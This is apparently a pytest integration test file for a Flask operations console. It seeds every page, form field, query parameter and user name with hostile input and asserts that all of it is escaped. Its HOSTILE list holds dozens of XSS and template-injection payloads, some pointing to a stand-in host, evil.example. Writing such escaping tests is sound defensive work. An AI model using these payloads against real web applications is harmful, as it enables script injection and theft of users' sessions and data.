"""Texts that want to be markup stay texts: on every page, in every place that anybody but us fills."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import TYPE_CHECKING
from urllib.parse import urlencode

import pytest

from tests.integration.console.browser import (
    DOMAIN,
    OPERATOR_TOKEN,
    TOKENS,
    VIEWER_TOKEN,
    Browser,
    World,
    make_world,
    routes,
)

if TYPE_CHECKING:
    from collections.abc import Sequence

    from flask import Flask

    from tests.integration.console.conftest import MakeApp

HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x/>#x'>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=//evil.example><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<marquee onstart=alert(1)>x",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</pre></details></table><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "{{ 7 * 7 }}{% raw %}",
    "{{ config.items() }}",
    "${alert(1)}",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)
TAGS = {
    "html", "head", "meta", "title", "link", "script", "body", "a", "header", "nav", "details", "summary", "ul", "li",
    "ol", "svg", "rect", "path", "line", "text", "desc", "span", "form", "label", "input", "button", "p", "div", "main",
    "h1", "h2", "section", "table", "thead", "tbody", "tr", "th", "td", "time", "dl", "dt", "dd", "pre", "dialog",
    "select", "option", "textarea", "datalist", "figure", "figcaption", "code",
}  # fmt: skip
ADDRESSES = {"href", "src", "action", "formaction", "data-events", "data-poll"}


class Reader(HTMLParser):
    """Collects what a page is made of."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: set[str] = set()
        self.scripts: list[str | None] = []
        self.words: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses |= {value or "" for name, value in attrs if name in ADDRESSES}
        self.words += [value for _, value in attrs if value]
        if tag == "script":
            self.scripts.append(dict(attrs).get("src"))

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        self.tags.add(f"comment {data}")


def check_page(page: str, where: str) -> Reader:
    """Make sure that a page has nothing but our own markup."""
    found = Reader(page)
    assert found.tags <= TAGS, (where, found.tags - TAGS)
    assert not {name for name in found.attributes if name.startswith("on") or name in {"style", "srcdoc"}}, where
    assert found.scripts == [f"/static/console/js/{name}.js" for name in ("theme", "forms", "main")], where
    assert all(address.startswith(("/", "?", "#")) and not address.startswith("//") for address in found.addresses), (
        where
    )
    return found


@pytest.fixture
def hostile(database_url: str) -> World:
    """A world in which every text is hostile, each in every place."""
    return make_world(database_url, [(text,) * 6 for text in HOSTILE])


def pages(app: Flask, world: World) -> list[str]:
    """Return the addresses of all HTML pages, and of each command and batch."""
    lists = [
        path
        for _, path, endpoint in routes(app, world, "GET")
        if not path.startswith(("/api/", "/live/", "/static/", "/go")) and endpoint != "console.login"
    ]
    more = [f"/batches?offset={n}" for n in (50, 100, 300)]
    client, path = Browser(app, OPERATOR_TOKEN), "/api/troubleshooting/commands"
    while (older := client.get(path).get_json()["older"]) is not None:
        path = f"/api/troubleshooting/commands?{urlencode(older)}"
        more.append(path.removeprefix("/api"))
    stories = [
        f"/commands/{DOMAIN}/{command_id}" for command_id in (*world.parked[::2], *world.others[::5], *world.edited)
    ]
    stories += [f"{path}?payload=on" for path in stories[:20]]
    return [*lists, *more, *stories, *(f"/batches/{DOMAIN}/{batch_id}" for batch_id in world.batches)]


def test_stored_texts_are_escaped_on_every_page(make_app: MakeApp, hostile: World) -> None:
    assert len(HOSTILE) >= 40
    app = make_app(**TOKENS)
    shown: set[str] = set()
    for token in (OPERATOR_TOKEN, VIEWER_TOKEN):
        browser = Browser(app, token)
        for path in pages(app, hostile):
            answer = browser.get(path)
            assert answer.status_code == 200, path
            words = "\n".join(check_page(answer.text, path).words)
            shown |= {text for text in HOSTILE if text in words}
    assert shown == set(HOSTILE)  # each was there to be read, as it was given


def test_hostile_texts_in_queries_and_forms_are_escaped(make_app: MakeApp, world: World) -> None:
    browser = Browser(make_app(**TOKENS), OPERATOR_TOKEN)
    token = browser.csrf_token()
    fields: Sequence[str] = ("domain", "type", "data", "correlation", "reply_to", "max_attempts", "copies", "lines",
                             "command", "group", "reason", "result", "command_id", "rate", "stop_after",
                             "from")  # fmt: skip
    for text in HOSTILE:
        form = {**dict.fromkeys(fields, text), "csrf_token": token}
        edit, redrive = f"/commands/{DOMAIN}/{world.parked[0]}/edit", f"/redrives/{world.redrives[0]}"
        for path in ("/send", "/send/bulk", "/troubleshooting/complete", "/troubleshooting/cancel", "/redrives", edit):
            answer = browser.post_raw(path, form)
            assert answer.status_code == 422, (path, text)
            check_page(answer.text, path)
        names = ("status", "domain", "type", "after", "offset", "event", "correlation", "next", "text", "batch",
                 "group", "start", "trail", "command", "payload", "reason")  # fmt: skip
        query = dict.fromkeys(names, text)
        for path in ("/commands", "/audit", "/batches", "/troubleshooting", "/troubleshooting/commands", "/redrives",
                     "/redrives/new", "/go", "/send", edit, redrive, edit.removesuffix("/edit")):  # fmt: skip
            check_page(browser.get(path, query_string=query).text, path)
        check_page(browser.get(f"/{text}").text, "404")
    assert len(world.parked) == 2


def test_a_hostile_name_of_the_user_is_escaped(make_app: MakeApp) -> None:
    app = make_app(**TOKENS)
    for text in HOSTILE:
        if text.isprintable():
            check_page(Browser(app, OPERATOR_TOKEN, text).get("/").text, text)
